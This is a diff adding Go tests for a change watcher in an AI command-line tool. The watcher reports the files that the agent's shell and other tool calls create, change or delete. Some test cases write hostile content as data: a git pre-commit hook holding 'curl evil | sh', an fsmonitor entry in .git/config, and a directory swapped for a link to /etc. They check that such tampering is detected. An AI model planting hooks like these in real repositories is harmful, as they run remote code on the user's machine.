@@ -1,0 +1,370 @@
+package tools
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"runtime"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+
+	"github.com/ask-cli/ask/internal/sandbox"
+)
+
+// watched is a root whose changes are collected as "action path (tool)".
+type watched struct {
+	root     *Root
+	mu       sync.Mutex
+	changes  []string
+	problems []string
+}
+
+func newWatched(t testing.TB, files map[string]string, scanOnly bool) *watched {
+	t.Helper()
+	w := &watched{root: newTestRoot(t, files)}
+	if scanOnly {
+		w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) {
+			return nil, errors.New("inotify: too many open files")
+		}
+	}
+	w.root.OnChange(func(c Change) {
+		w.mu.Lock()
+		defer w.mu.Unlock()
+		w.changes = append(w.changes, fmt.Sprintf("%s %s (%s)", c.Action, c.Path, c.Tool))
+	})
+	w.root.OnWatchProblem(func(msg string) {
+		w.mu.Lock()
+		defer w.mu.Unlock()
+		w.problems = append(w.problems, msg)
+	})
+	t.Cleanup(w.root.StopWatching)
+	return w
+}
+
+// sh runs a command through the shell tool and returns the changes it
+// reported.
+func (w *watched) sh(t testing.TB, command string) []string {
+	t.Helper()
+	args, _ := json.Marshal(map[string]string{"command": command})
+	if _, err := (shell{w.root}).Run(context.Background(), args); err != nil {
+		t.Fatalf("%s: %v", command, err)
+	}
+	return w.take()
+}
+
+func (w *watched) take() []string {
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	out := w.changes
+	w.changes = nil
+	slices.Sort(out)
+	return out
+}
+
+// The change watcher says exactly what a command changed (DESIGN §5), in a
+// kernel-watched tree and in one it must scan.
+func TestWatchReportsWhatCommandsChange(t *testing.T) {
+	t.Parallel()
+	files := map[string]string{
+		"a.txt":           "hello\n",
+		"b.txt":           "other\n",
+		"run.sh":          "echo hi\n",
+		"sub/":            "",
+		"d/x":             "1",
+		"d/e/y":           "2",
+		".git/config":     "[core]\n",
+		".git/HEAD":       "ref: refs/heads/main\n",
+		".git/hooks/":     "",
+		"node_modules/m/": "",
+	}
+	for _, tt := range []struct {
+		name    string
+		setup   string // a command run before the watched one, its changes not counted
+		command string
+		want    []string
+	}{
+		{name: "nothing changed", command: "cat a.txt; ls -R >/dev/null"},
+		{name: "created in a new directory", command: "mkdir -p n/m && echo x > n/m/f", want: []string{"created n/m/f (shell)"}},
+		{name: "appended", command: "echo more >> a.txt", want: []string{"changed a.txt (shell)"}},
+		{name: "same-size edit with the mtime set back",
+			command: `t=$(stat -c %y a.txt); printf 'jello\n' > a.txt; touch -d "$t" a.txt; test "$(stat -c %y a.txt)" = "$t"`,
+			want:    []string{"changed a.txt (shell)"}},
+		{name: "chmod", command: "chmod +x run.sh", want: []string{"changed run.sh (shell)"}},
+		{name: "directory mode", command: "chmod 700 sub", want: []string{"changed sub (shell)"}},
+		{name: "symlink created", command: "ln -s a.txt link", want: []string{"created link (shell)"}},
+		{name: "symlink retargeted", setup: "ln -s a.txt link", command: "ln -sfn b.txt link", want: []string{"changed link (shell)"}},
+		{name: "a hook planted in .git", command: "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+			want: []string{"created .git/hooks/pre-commit (shell)"}},
+		{name: ".git/config edited", command: "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config", want: []string{"changed .git/config (shell)"}},
+		{name: "deleted", command: "rm b.txt", want: []string{"deleted b.txt (shell)"}},
+		{name: "a tree removed", command: "rm -rf d", want: []string{"deleted d/e/y (shell)", "deleted d/x (shell)"}},
+		{name: "a tree moved", command: "mv d moved", want: []string{"created moved/e/y (shell)", "created moved/x (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
+		{name: "a tree moved then changed", command: "mv d moved && echo z > moved/e/y",
+			want: []string{"created moved/e/y (shell)", "created moved/x (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
+		{name: "replaced by a rename", command: "printf 'new\\n' > t.tmp && mv t.tmp a.txt", want: []string{"changed a.txt (shell)"}},
+		{name: "made and removed within the call", command: "echo x > tmp && rm tmp"},
+		{name: "ignored directories too", command: "echo x > node_modules/m/index.js", want: []string{"created node_modules/m/index.js (shell)"}},
+		{name: "a directory swapped for a link leaves its files gone", command: "rm -rf d && ln -s /etc d",
+			want: []string{"created d (shell)", "deleted d/e/y (shell)", "deleted d/x (shell)"}},
+	} {
+		for _, scan := range []bool{false, true} {
+			t.Run(fmt.Sprintf("%s/scan=%v", tt.name, scan), func(t *testing.T) {
+				t.Parallel()
+				w := newWatched(t, files, scan)
+				if tt.setup != "" {
+					w.sh(t, tt.setup)
+				}
+				got := w.sh(t, tt.command)
+				if !slices.Equal(got, tt.want) {
+					t.Errorf("changes:\n got %q\nwant %q", got, tt.want)
+				}
+				if again := w.sh(t, "true"); len(again) > 0 {
+					t.Errorf("a call that changes nothing reported %q", again)
+				}
+				if !scan && (len(w.problems) > 0 || w.root.watcher().kernel == nil) {
+					t.Errorf("the kernel did not watch: %q", w.problems)
+				}
+			})
+		}
+	}
+}
+
+// ask's own files (state, config, transcript) are never reported.
+func TestWatchSkipsHiddenPaths(t *testing.T) {
+	t.Parallel()
+	w := newWatched(t, map[string]string{"state/runs.jsonl": "", "a": ""}, false)
+	w.root.Hide(filepath.Join(w.root.Dir(), "state"))
+	if got := w.sh(t, "echo x >> state/runs.jsonl; echo y > state/new; echo z > a"); !slices.Equal(got, []string{"changed a (shell)"}) {
+		t.Errorf("changes = %q, want only a", got)
+	}
+}
+
+// Calls of tools other than the shell are watched too (an MCP server's
+// writes), and a file tool's own report is not repeated by the watcher.
+func TestWatchOtherTools(t *testing.T) {
+	t.Parallel()
+	for _, scan := range []bool{false, true} {
+		t.Run(fmt.Sprintf("scan=%v", scan), func(t *testing.T) {
+			t.Parallel()
+			w := newWatched(t, map[string]string{"a.txt": "a\n"}, scan)
+			done := w.root.Watch("mcp_write")
+			if err := os.WriteFile(filepath.Join(w.root.Dir(), "out.json"), []byte("{}"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			done()
+			if got := w.take(); !slices.Equal(got, []string{"created out.json (mcp_write)"}) {
+				t.Errorf("changes = %q", got)
+			}
+
+			// A file tool running while a command runs: said once, by the
+			// file tool.
+			done = w.root.Watch("shell")
+			if _, err := runTool(t, writeFile{w.root}, `{"path":"a.txt","content":"b\n"}`); err != nil {
+				t.Fatal(err)
+			}
+			done()
+			if got := w.take(); !slices.Equal(got, []string{"overwrote a.txt (write_file)"}) {
+				t.Errorf("changes = %q, want the file tool's report alone", got)
+			}
+		})
+	}
+}
+
+// What changes between calls (the person editing, a file tool) is no
+// call's doing.
+func TestWatchBetweenCalls(t *testing.T) {
+	t.Parallel()
+	w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
+	w.sh(t, "true")
+	if err := os.WriteFile(filepath.Join(w.root.Dir(), "a.txt"), []byte("edited by hand\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if got := w.sh(t, "cat a.txt"); len(got) > 0 {
+		t.Errorf("a change made between calls was reported: %q", got)
+	}
+}
+
+// When the kernel cannot watch, the watcher says so once and scans.
+func TestWatchFallsBackAndSaysSoOnce(t *testing.T) {
+	t.Parallel()
+	w := newWatched(t, map[string]string{"a.txt": "a\n"}, true)
+	w.root.StartWatching()
+	for i := range 3 {
+		if got := w.sh(t, fmt.Sprintf("echo %d >> a.txt", i)); !slices.Equal(got, []string{"changed a.txt (shell)"}) {
+			t.Errorf("call %d: changes = %q", i, got)
+		}
+	}
+	if len(w.problems) != 1 || !strings.Contains(w.problems[0], "too many open files") || !strings.Contains(w.problems[0], "scans") {
+		t.Errorf("problems = %q, want one saying why and what instead", w.problems)
+	}
+}
+
+// There is no limit on the tree: a change in its 20,001st file is reported.
+func TestWatchLargeTree(t *testing.T) {
+	if testing.Short() {
+		t.Skip("a 20,001-file tree")
+	}
+	t.Parallel()
+	for _, scan := range []bool{false, true} {
+		t.Run(fmt.Sprintf("scan=%v", scan), func(t *testing.T) {
+			t.Parallel()
+			w := newWatched(t, nil, scan)
+			makeTree(t, w.root.Dir(), 20001, 100)
+			w.root.StartWatching()
+			last := fmt.Sprintf("d%03d/f%05d.txt", 20000/100, 20000)
+			if got := w.sh(t, "echo changed >> "+last); !slices.Equal(got, []string{"changed " + last + " (shell)"}) {
+				t.Errorf("changes = %q, want %s", got, last)
+			}
+			if len(w.problems) > 0 && !scan {
+				t.Errorf("problems = %q", w.problems)
+			}
+		})
+	}
+}
+
+// makeTree writes n small files, perDir to a directory.
+func makeTree(t testing.TB, dir string, n, perDir int) {
+	t.Helper()
+	for i := range n {
+		sub := filepath.Join(dir, fmt.Sprintf("d%03d", i/perDir))
+		if i%perDir == 0 {
+			if err := os.MkdirAll(sub, 0o755); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := os.WriteFile(filepath.Join(sub, fmt.Sprintf("f%05d.txt", i)), []byte("x\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// A root watched again after StopWatching starts from a new picture.
+func TestWatchAfterStop(t *testing.T) {
+	t.Parallel()
+	w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
+	w.sh(t, "true")
+	w.root.StopWatching()
+	if err := os.WriteFile(filepath.Join(w.root.Dir(), "b.txt"), []byte("made while nobody watched\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if got := w.sh(t, "echo x >> a.txt"); !slices.Equal(got, []string{"changed a.txt (shell)"}) {
+		t.Errorf("changes = %q", got)
+	}
+	if w.root.watcher().kernel == nil || len(w.problems) > 0 {
+		t.Errorf("the new watcher does not use the kernel: %q", w.problems)
+	}
+}
+
+// What a command changes inside the sandbox is reported as outside it: the
+// kernel watches the files, not the view of them (DESIGN §5, Sandbox).
+func TestWatchInsideTheSandbox(t *testing.T) {
+	t.Parallel()
+	sw := newSandboxWorld(t)
+	sw.confine(t, sandbox.Workdir, false)
+	w := &watched{root: sw.root}
+	w.root.OnChange(func(c Change) {
+		w.mu.Lock()
+		defer w.mu.Unlock()
+		w.changes = append(w.changes, fmt.Sprintf("%s %s (%s)", c.Action, c.Path, c.Tool))
+	})
+	t.Cleanup(w.root.StopWatching)
+	if got := w.sh(t, "echo x >> in.txt; mkdir -p .git/refs/heads; echo 0000 > .git/refs/heads/main"); !slices.Equal(got, []string{
+		"changed in.txt (shell)", "created .git/refs/heads/main (shell)"}) {
+		t.Errorf("changes = %q", got)
+	}
+}
+
+// lossyKernel stands for a kernel watch that loses track (its queue
+// overflowed) or stops working part way (the watch limit reached for a
+// new directory).
+type lossyKernel struct {
+	lost bool
+	err  error
+}
+
+func (k *lossyKernel) addDir(string, string) error { return nil }
+func (k *lossyKernel) start()                      {}
+func (k *lossyKernel) forget(string)               {}
+func (k *lossyKernel) close()                      {}
+func (k *lossyKernel) take() (map[string]bool, []string, bool, error) {
+	return map[string]bool{}, nil, k.lost, k.err
+}
+
+// A kernel that loses track, or fails, is made up for by a scan: nothing
+// goes unreported, and a failure is said once.
+func TestWatchWhenTheKernelLosesTrack(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name         string
+		kernel       *lossyKernel
+		wantProblems int
+	}{
+		{"queue overflow", &lossyKernel{lost: true}, 0},
+		{"watch limit reached later", &lossyKernel{err: errors.New("inotify: the limit of watched directories (fs.inotify.max_user_watches) is reached")}, 1},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			w := newWatched(t, map[string]string{"a.txt": "a\n"}, false)
+			w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) { return tt.kernel, nil }
+			for i := range 2 {
+				if got := w.sh(t, fmt.Sprintf("echo %d >> a.txt; echo %d > new%d", i, i, i)); !slices.Equal(got, []string{
+					"changed a.txt (shell)", fmt.Sprintf("created new%d (shell)", i)}) {
+					t.Errorf("call %d: changes = %q", i, got)
+				}
+			}
+			if len(w.problems) != tt.wantProblems {
+				t.Errorf("problems = %q, want %d", w.problems, tt.wantProblems)
+			}
+		})
+	}
+}
+
+// gatedKernel holds the picture at its first directory until released,
+// and counts the directories it was asked to watch.
+type gatedKernel struct {
+	lossyKernel
+	entered, release chan struct{}
+	dirs             atomic.Int32
+}
+
+func (k *gatedKernel) addDir(string, string) error {
+	if k.dirs.Add(1) == 1 {
+		close(k.entered)
+		<-k.release
+	}
+	return nil
+}
+
+// A run that ends while the picture is being taken (an answer with no
+// call, in a large tree) does not wait for the rest of it.
+func TestStopWatchingEndsThePicture(t *testing.T) {
+	t.Parallel()
+	w := newWatched(t, map[string]string{"a/x": "", "b/y": "", "c/z": ""}, false)
+	k := &gatedKernel{entered: make(chan struct{}), release: make(chan struct{})}
+	w.root.watchKernel = func(*Root, *sync.Mutex) (kernelWatch, error) { return k, nil }
+	w.root.StartWatching()
+	<-k.entered
+	watcher := w.root.watcher()
+	stopped := make(chan struct{})
+	go func() {
+		w.root.StopWatching()
+		close(stopped)
+	}()
+	for !watcher.stopped.Load() {
+		runtime.Gosched()
+	}
+	close(k.release)
+	<-stopped
+	if n := k.dirs.Load(); n != 1 {
+		t.Errorf("%d directories watched after the stop, want only the first", n-1)
+	}
+	if len(w.problems) > 0 {
+		t.Errorf("a stop is not a problem: %q", w.problems)
+	}
+}
